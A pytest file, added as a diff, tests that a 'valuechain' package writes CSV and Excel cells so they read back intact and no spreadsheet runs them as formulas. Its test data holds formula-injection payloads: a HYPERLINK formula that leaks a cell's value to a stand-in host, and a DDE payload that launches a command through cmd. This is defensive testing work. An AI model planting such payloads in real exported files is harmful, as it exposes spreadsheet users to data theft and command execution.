@@ -1,0 +1,291 @@
+"""What is written as CSV or as a workbook reads back as it was, and no spreadsheet runs any of it."""
+
+import csv
+import io
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+import valuechain as vc
+from valuechain.analysis.rows import matrix_rows, ownership_rows
+from valuechain.model.table import Table
+from valuechain.tables.sheets import escape, unescape
+from valuechain.tables.source import read_upload
+from valuechain.tables.text import RawTable, decode, neutralise, parse, restore
+from valuechain.tables.workbook import write_workbook
+from valuechain.tables.write import write_csv
+
+Folder = Callable[..., Path]
+Zipped = Callable[..., Path]
+
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+DANGEROUS = [f"{trigger}1+1" for trigger in TRIGGERS] + [
+    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "-",
+    "@",
+    "=",
+    "\t=1",
+    "\r\n=1",
+    "\r_x0041_",
+]
+APOSTROPHES = [f"{apostrophes}{text}" for apostrophes in ("'", "''", "'''") for text in ("=1", "@x", "\tx", "-")]
+HARMLESS = [
+    "",
+    " ",
+    "'",
+    "''",
+    "'tis",
+    "it's",
+    "a=b",
+    " =1",
+    '"',
+    '""',
+    'say "no"',
+    ",",
+    ";",
+    "a;b",
+    "|",
+    "\\",
+    "a\nb",
+    "a\r\nb",
+    "a\rb",
+    "a\tb",
+    "\x0b",
+    "\x1b[31mred",
+    "\x01",
+    "\x1f",
+    "\x7f",
+    "\x85",
+    "\u2028",
+    "\ufeff",
+    "\ufffe",
+    "\uffff",
+    "\u200b",
+    "\u202e\u05d0\u05d1\u05d2",
+    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "数据",
+    " spaces around ",
+    "_x0041_",
+    "_x005F_",
+    "_x005F_x0041_",
+    "_x005f_x005F_x0041_",
+    "__x000D__",
+    "_x000D_\r",
+    "_\r",
+    "_xD800_",
+    "_x0000_",
+    "_x41_",
+    "007",
+    "1e5",
+    "TRUE",
+    "2025-01-31",
+    "#N/A",
+    "<b>&amp;</b>",
+    "]]>",
+]
+TEXTS = [*DANGEROUS, *APOSTROPHES, *HARMLESS]
+
+
+def _read_csv(written: str) -> RawTable:
+    return parse("t.csv", decode("t.csv", written.encode()), frozenset())
+
+
+def _write_workbook(table: Table, chain: vc.ValueChain) -> bytes:
+    return write_workbook(table, chain, chain.frameworks)
+
+
+def _read_workbook(written: bytes, table: Table) -> RawTable:
+    source = read_upload("own.xlsx", written, {table.name: frozenset()})
+    return source.tables[table.name]
+
+
+def _table_of(text: str) -> Table:
+    return Table("texts", ("id", f"head {text}", "last"), (("first", text, "x"), ("second", "x", text)))
+
+
+@pytest.mark.parametrize("text", TEXTS, ids=ascii)
+def test_neutralised_and_restored(text: str) -> None:
+    """Any text that is neutralised and restored is the same again."""
+    assert restore(neutralise(text)) == text
+
+
+@pytest.mark.parametrize("text", [*DANGEROUS, *APOSTROPHES], ids=ascii)
+def test_what_is_neutralised(text: str) -> None:
+    """What a spreadsheet would run, or would take for neutralised, gets one apostrophe before it."""
+    assert neutralise(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
+def test_what_is_left_alone(text: str) -> None:
+    """Text that no spreadsheet runs is written as it is."""
+    assert neutralise(text) == text
+
+
+@pytest.mark.parametrize("text", TEXTS, ids=ascii)
+def test_csv(text: str) -> None:
+    """Any text in a cell of a CSV file reads back as it was."""
+    table = _table_of(text)
+    read = _read_csv(write_csv(table))
+    assert read.rows == table.rows
+    assert read.header == ("id", f"head {text}".strip(), "last")
+
+
+@pytest.mark.parametrize("text", [*DANGEROUS, *APOSTROPHES], ids=ascii)
+def test_csv_as_a_spreadsheet_sees_it(text: str) -> None:
+    """In the CSV file itself a dangerous cell, in the header too, begins with an apostrophe."""
+    written = write_csv(Table("texts", ("id", text), (("first", text),)))
+    cells = list(csv.reader(io.StringIO(written, newline="")))
+    assert cells == [["id", f"'{text}"], ["first", f"'{text}"]]
+
+
+@pytest.mark.parametrize("text", DANGEROUS, ids=ascii)
+def test_csv_header(text: str) -> None:
+    """A dangerous head reads back as it was, but for the spaces and line breaks around it."""
+    read = _read_csv(write_csv(Table("texts", ("id", text), (("first", "x"),))))
+    assert read.header == (("id", text.strip()) if text.strip() else ("id",))
+
+
+@pytest.mark.parametrize("text", TEXTS, ids=ascii)
+def test_escaped_and_unescaped(text: str) -> None:
+    """Any text that is escaped for a workbook and unescaped is the same again."""
+    assert unescape(escape(text)) == text
+
+
+@pytest.mark.parametrize(
+    ("escaped", "text"),
+    [
+        ("_x000D_\n", "\r\n"),
+        ("_x0041_", "A"),
+        ("_x00e9_", "\u00e9"),
+        ("_x005F_x0041_", "_x0041_"),
+        ("_x0000_", "_x0000_"),
+        ("_xD83D__xDE00_", "_xD83D__xDE00_"),
+        ("_x41_", "_x41_"),
+    ],
+)
+def test_what_excel_escapes(escaped: str, text: str) -> None:
+    """What Excel escapes is unescaped, unless it would be no text."""
+    assert unescape(escaped) == text
+
+
+def test_workbook(chain: vc.ValueChain) -> None:
+    """Any text in a cell of a workbook, its header too, reads back as it was."""
+    rows = tuple((f"row {number}", text, "x", text) for number, text in enumerate(TEXTS))
+    table = Table("texts", ("id", "=head", "@other", "last"), rows)
+    read = _read_workbook(_write_workbook(table, chain), table)
+    assert read.header == table.columns
+    assert list(read.rows) == list(rows)
+
+
+def test_workbook_holds_no_formula(chain: vc.ValueChain) -> None:
+    """No cell of any sheet of a workbook is a formula, and what looks like one is marked as text."""
+    table = Table("texts", ("=id",), tuple((text,) for text in (*DANGEROUS, *APOSTROPHES)))
+    workbook = load_workbook(io.BytesIO(_write_workbook(table, chain)))
+    types = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
+    assert types <= {"s", "n", "b", "inlineStr"}
+    assert all(cell.quotePrefix for (cell,) in workbook["texts"].iter_rows())
+
+
+@pytest.mark.parametrize("value", [0, 7, -7, True, False])
+def test_numbers_and_truth(chain: vc.ValueChain, value: int) -> None:
+    """A whole number stays a number, and a negative one is not neutralised."""
+    table = Table("numbers", ("id", "value"), (("a", value),))
+    expected = ("yes" if value else "no") if isinstance(value, bool) else str(value)
+    assert _read_workbook(_write_workbook(table, chain), table).rows == (("a", expected),)
+    assert _read_csv(write_csv(table)).rows == (("a", str(value)),)
+
+
+@pytest.mark.parametrize("length", [32_767, 32_768, 100_000])
+@pytest.mark.parametrize("letter", ["x", "\r"], ids=["plain", "escaped"])
+def test_text_longer_than_a_cell_of_excel(chain: vc.ValueChain, length: int, letter: str) -> None:
+    """Text that does not fit into a cell of Excel is cut, and says so."""
+    table = Table("texts", ("id", "text"), (("a", letter * length),))
+    ((_, read),) = _read_workbook(_write_workbook(table, chain), table).rows
+    if letter == "x" and length == 32_767:
+        assert read == letter * length
+    else:
+        note = " [...] The rest does not fit into a cell; the CSV has it."
+        assert read.endswith(note)
+        assert set(read.removesuffix(note)) == {letter}
+        assert len(escape(read)) <= 32_767
+
+
+NAMES = ["=SUM(A1)", "+one", "-one", "@one", "'=one", "it's", 'a "b"', "\U0001f600", "\u05d0\u05d1", "_x0041_"]
+
+
+@pytest.fixture
+def strange(folder: Folder) -> vc.ValueChain:
+    """A chain whose actors and mitigations have names that a spreadsheet would run."""
+    actors = [(f"a{number}", name) for number, name in enumerate(NAMES)]
+    texts = [text for text in TEXTS if text.strip()]
+    mitigations = [
+        (f"m{number}", text, text, NAMES[number % len(NAMES)], "a1;" + NAMES[2]) for number, text in enumerate(texts)
+    ]
+    return vc.read_chain(
+        folder(
+            actors=write_csv(Table("actors", ("id", "name"), tuple(actors))),
+            mitigations=write_csv(
+                Table("mitigations", ("id", "name", "summary", "primary", "secondary"), tuple(mitigations))
+            ),
+        )
+    )
+
+
+def test_a_chain_of_strange_names(strange: vc.ValueChain) -> None:
+    """Names that a spreadsheet would run are read as they were meant, and owners are found by them."""
+    assert [actor.name for actor in strange.actors] == NAMES
+    assert [mitigation.name for mitigation in strange.mitigations] == [text for text in TEXTS if text.strip()]
+    assert [mitigation.summary for mitigation in strange.mitigations] == [text for text in TEXTS if text.strip()]
+    assert {(each.actor, each.role) for each in strange.ownerships if each.mitigation == "m0"} == {
+        ("a0", "primary"),
+        ("a1", "secondary"),
+        ("a2", "secondary"),
+    }
+
+
+def test_a_chain_written_and_read_again(strange: vc.ValueChain, zipped: Zipped) -> None:
+    """The actors and mitigations of a chain, written as CSV and read again, are the same."""
+    actors = tuple((actor.id, actor.name) for actor in strange.actors)
+    owned = {
+        role: {
+            mitigation.id: ";".join(
+                each.actor for each in strange.ownerships if (each.mitigation, each.role) == (mitigation.id, role)
+            )
+            for mitigation in strange.mitigations
+        }
+        for role in ("primary", "secondary")
+    }
+    mitigations = tuple(
+        (each.id, each.name, each.summary, owned["primary"][each.id], owned["secondary"][each.id])
+        for each in strange.mitigations
+    )
+    tables = (
+        Table("actors", ("id", "name"), actors),
+        Table("mitigations", ("id", "name", "summary", "primary", "secondary"), mitigations),
+    )
+    again = vc.read_chain(zipped({f"{table.name}.csv": write_csv(table) for table in tables}))
+    assert (again.actors, again.mitigations) == (strange.actors, strange.mitigations)
+    assert set(again.ownerships) == set(strange.ownerships)
+    for table in tables:
+        read = _read_workbook(_write_workbook(table, strange), table)
+        assert (read.header, read.rows) == (table.columns, table.rows)
+
+
+def test_answers_written_and_read_again(strange: vc.ValueChain) -> None:
+    """The matrix and the ownerships, written as CSV and as a workbook, read back as they were."""
+    allocation = vc.build_allocation(strange)
+    for table in (matrix_rows(allocation), ownership_rows(allocation)):
+        for read in (_read_csv(write_csv(table)), _read_workbook(_write_workbook(table, strange), table)):
+            assert (read.header, read.rows) == (table.columns, table.rows)
+
+
+def test_the_shipped_answers_written_and_read_again(chain: vc.ValueChain) -> None:
+    """The ownerships of the shipped frameworks, written as CSV and as a workbook, read back as they were."""
+    table = ownership_rows(vc.build_allocation(chain, vc.Context("advanced", "open")))
+    assert len(table.rows) > 100
+    for read in (_read_csv(write_csv(table)), _read_workbook(_write_workbook(table, chain), table)):
+        assert (read.header, read.rows) == (table.columns, table.rows)
